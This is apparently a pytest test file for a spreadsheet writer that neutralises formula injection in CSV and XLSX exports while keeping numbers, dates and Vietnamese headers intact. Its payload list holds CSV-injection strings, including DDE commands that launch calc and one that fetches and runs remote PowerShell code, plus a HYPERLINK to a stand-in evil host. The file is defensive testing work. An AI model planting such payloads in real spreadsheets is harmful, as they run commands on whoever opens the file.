"""Safe spreadsheets (store/spreadsheet.py): formula payloads neutralised, numbers kept numbers, CSV and XLSX."""
from __future__ import annotations

import csv
import io
import math
import re
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from store.spreadsheet import (FORMULA_TRIGGERS, DictionaryEntry, csv_bytes, is_plain_number, neutralise, sheet_name,
                               xlsx_bytes)

PAYLOADS = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1", "\r=1",
            "=1+1", "-2+3+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "@", "-", "+", "="]
# a number as text, written independently of the module's own pattern
NUMBER_TEXT = re.compile(r"[+-]?[0-9.,]*[0-9][0-9.,]*([eE][+-]?[0-9]+)?%?")


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel shows Vietnamese"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _xlsx_cells(data: bytes, sheet: int = 0) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return list(book.worksheets[sheet].iter_rows(values_only=True))


def _safe(cell) -> bool:
    """A cell no spreadsheet runs: not text, or text not starting with a trigger, or a plain number."""
    return not isinstance(cell, str) or cell[:1] not in FORMULA_TRIGGERS or NUMBER_TEXT.fullmatch(cell) is not None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_neutralised_in_csv_and_xlsx(payload):
    assert neutralise(payload) == "'" + payload
    frame = pd.DataFrame({"text": [payload], payload: ["x"]})
    header, row = _csv_cells(csv_bytes(frame))
    assert row[0] == "'" + payload and header[1] == "'" + payload
    header, row = _xlsx_cells(xlsx_bytes(frame, "t"))
    assert row[0].replace("\n", "\r") == ("'" + payload).replace("\n", "\r")  # XML reads \r back as \n
    assert header[1].replace("\n", "\r") == ("'" + payload).replace("\n", "\r")


def test_xlsx_cells_are_never_formulas():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pd.DataFrame({"a": ["=1+1", "x"]}), "t")))
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


@pytest.mark.parametrize("text", ["-5", "+84", "-1.234,5", "-2.5e-3", "-12%", "-0", "+1.5", "-.5"])
def test_numbers_written_as_text_stay_as_they_are(text):
    assert is_plain_number(text) and neutralise(text) == text
    assert _csv_cells(csv_bytes(pd.DataFrame({"a": [text]})))[1] == [text]


def test_numeric_columns_are_never_touched_and_stay_machine_readable():
    frame = pd.DataFrame({"n": [-1.5, 1234567.25, np.nan], "i": pd.array([-3, None, 1_000_000], dtype="Int64"),
                          "b": [True, False, True]})
    rows = _csv_cells(csv_bytes(frame))
    assert rows == [["n", "i", "b"], ["-1.5", "-3", "true"], ["1234567.25", "", "false"], ["", "1000000", "true"]]
    cells = _xlsx_cells(xlsx_bytes(frame, "t"))
    assert cells[1] == (-1.5, -3, True) and cells[2] == (1234567.25, None, False) and cells[3] == (None, 1_000_000, True)


def test_dates_are_iso_in_csv_and_dates_in_xlsx():
    frame = pd.DataFrame({"day": pd.to_datetime(["2026-10-01", None]),
                          "at": pd.to_datetime(["2026-10-01 08:30", "2026-10-02 00:00"]).tz_localize("Asia/Ho_Chi_Minh"),
                          "mixed": [date(2026, 1, 2), "x"]})
    rows = _csv_cells(csv_bytes(frame))
    assert rows[1] == ["2026-10-01", "2026-10-01T08:30:00+07:00", "2026-01-02"]
    assert rows[2] == ["", "2026-10-02T00:00:00+07:00", "x"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, "t")))
    sheet = book.active
    assert sheet["A2"].value == datetime(2026, 10, 1) and sheet["A2"].number_format == "yyyy-mm-dd"
    assert sheet["B2"].value == datetime(2026, 10, 1, 8, 30), "wall-clock time in its own zone"
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm:ss"


def test_xlsx_number_formats_bold_frozen_header_and_dictionary():
    frame = pd.DataFrame({"Lao động": [1234567, 89], "Tỷ lệ": [0.052, -0.013], "Xã": ["=evil", "Hòa Xá"]})
    data = xlsx_bytes(frame, "Bảng: tổng/hợp", number_formats={"Lao động": "#,##0", "Tỷ lệ": "0.0%"},
                      dictionary=[DictionaryEntry("Lao động", "Số người có việc làm", "người"),
                                  ("Tỷ lệ", "=thất nghiệp", "%")])
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet, notes = book.worksheets
    assert sheet.title == "Bảng- tổng-hợp" and sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet["A2"].value == 1234567 and sheet["A2"].number_format == "#,##0"
    assert sheet["B3"].value == -0.013 and sheet["B3"].number_format == "0.0%"
    assert sheet["C2"].value == "'=evil"
    assert notes.freeze_panes == "A2"
    assert list(notes.iter_rows(values_only=True)) == [
        ("Cột / Column", "Mô tả / Description", "Đơn vị / Unit"),
        ("Lao động", "Số người có việc làm", "người"), ("Tỷ lệ", "'=thất nghiệp", "%")]


def test_a_dictionary_frame_keeps_its_own_header_and_is_neutralised_too():
    notes = pd.DataFrame({"Cột (CSV)": ["n"], "Ý nghĩa": ["=số người"]})
    cells = _xlsx_cells(xlsx_bytes(pd.DataFrame({"n": [1]}), "t", dictionary=notes), sheet=1)
    assert cells == [("Cột (CSV)", "Ý nghĩa"), ("n", "'=số người")]


def test_a_number_format_for_a_missing_column_is_refused():
    with pytest.raises(ValueError, match="not in the frame"):
        xlsx_bytes(pd.DataFrame({"a": [1]}), "t", number_formats={"b": "0"})


def test_hostile_text_still_makes_a_valid_workbook():
    long = "=" + "x" * 40_000
    frame = pd.DataFrame({"a": ["\x00\x07bell", long, "\ud800lone"]}, dtype=object)
    cells = _xlsx_cells(xlsx_bytes(frame, "[bad]*?:name that is far too long for excel"))
    assert cells[1][0] == "\ufffd\ufffdbell"
    assert cells[2][0].startswith("'=xxx") and len(cells[2][0]) == 32_767 and cells[2][0].endswith("…")
    assert cells[3][0] == "\ufffdlone"
    assert _csv_cells(csv_bytes(frame))[3] == ["\ufffdlone"]
    assert len(sheet_name("[bad]*?:name that is far too long for excel")) == 31 and sheet_name("") == "Sheet1"


def test_csv_chunks_append_to_one_file():
    first = csv_bytes(pd.DataFrame({"a": ["=1"]}))
    more = csv_bytes(pd.DataFrame({"a": ["x"]}), header=False, bom=False)
    assert _csv_cells(first + more) == [["a"], ["'=1"], ["x"]]


# ---- for all inputs ---------------------------------------------------------------------------------------
texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=40) | st.sampled_from(PAYLOADS) | \
    st.builds(lambda t, s: t + s, st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=10))
# XLSX stores 16 significant digits (openpyxl writes %.16g; Excel shows 15), so not the last float below the maximum
numbers = st.floats(min_value=-1e300, max_value=1e300) | st.integers(min_value=-2**53, max_value=2**53)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(texts, numbers, st.one_of(texts, numbers)), min_size=1, max_size=8))
def test_no_written_cell_runs_as_a_formula_and_numbers_round_trip(rows):
    frame = pd.DataFrame(rows, columns=["text", "number", "mixed"])
    frame["number"] = frame["number"].astype(float)
    csv_rows = _csv_cells(csv_bytes(frame))
    assert all(_safe(cell) for row in csv_rows for cell in row)
    for (text, number, mixed), (text_out, number_out, mixed_out) in zip(rows, csv_rows[1:]):
        assert float(number_out) == float(number), "numbers stay numbers, read back exactly"
        assert text_out in (text, "'" + text)
        if isinstance(mixed, str):
            assert mixed_out in (mixed, "'" + mixed)
        else:
            assert float(mixed_out) == float(mixed)
    xlsx_rows = _xlsx_cells(xlsx_bytes(frame, "t"))
    assert all(_safe(cell) for row in xlsx_rows for cell in row)
    for (text, number, mixed), (text_out, number_out, mixed_out) in zip(rows, xlsx_rows[1:]):
        assert isinstance(number_out, (int, float)) and math.isclose(number_out, float(number), rel_tol=1e-15)
        if not isinstance(mixed, str):
            assert isinstance(mixed_out, (int, float)) and math.isclose(mixed_out, mixed, rel_tol=1e-15)


# ---- the writers that use it --------------------------------------------------------------------------------
def test_quarantine_files_are_formula_safe_and_keep_negative_numbers(tmp_path, monkeypatch):
    """Cells from an input file (values, an unknown column's header, the raw line) never run in Excel."""
    from pipeline.ingest import ingest_file
    from store.templates import get_template

    monkeypatch.setenv("HANOI_DATA_DIR", str(tmp_path / "curated"))
    header = [f.header_vi for f in get_template("commune_jobs").fields] + ['=HYPERLINK("http://x","y")']
    rows = [['=HYPERLINK("http://evil.example","Bấm")', "", "09/2026", 10, 5, 1, 20, 36, 30, 25, "", 3, "Sơ bộ", "@SUM(1)"],
            ["00004", "", "09/2026", -5, 5, 1, 20, 21, 30, 25, "", 3, "Sơ bộ", "+cmd|' /C calc'!A0"]]
    path = tmp_path / "bao_cao.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    report = ingest_file(path, as_of=pd.Timestamp("2026-10-01"))
    assert report.quarantined == 2 and report.quarantine_file
    cells = _csv_cells(open(report.quarantine_file, "rb").read())
    assert all(_safe(cell) for row in cells for cell in row)
    flat = [cell for row in cells for cell in row]
    assert '\'=HYPERLINK("http://evil.example","Bấm")' in flat
    assert "-5" in cells[2], "a negative count stays a number"


def test_a_lone_empty_header_is_still_a_header_line():
    """Found by hypothesis below: an unquoted empty name made a blank first line, which readers skip."""
    assert _csv_cells(csv_bytes(pd.DataFrame([[1]], columns=[""]))) == [[""], ["1"]]


@settings(max_examples=40, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4, unique=True))
def test_any_header_reads_back_as_itself_or_neutralised(names):
    frame = pd.DataFrame([[1] * len(names)], columns=names)
    header = _csv_cells(csv_bytes(frame))[0]
    assert all(_safe(h) and h in (n, "'" + n) for h, n in zip(header, names)) and len(header) == len(names)
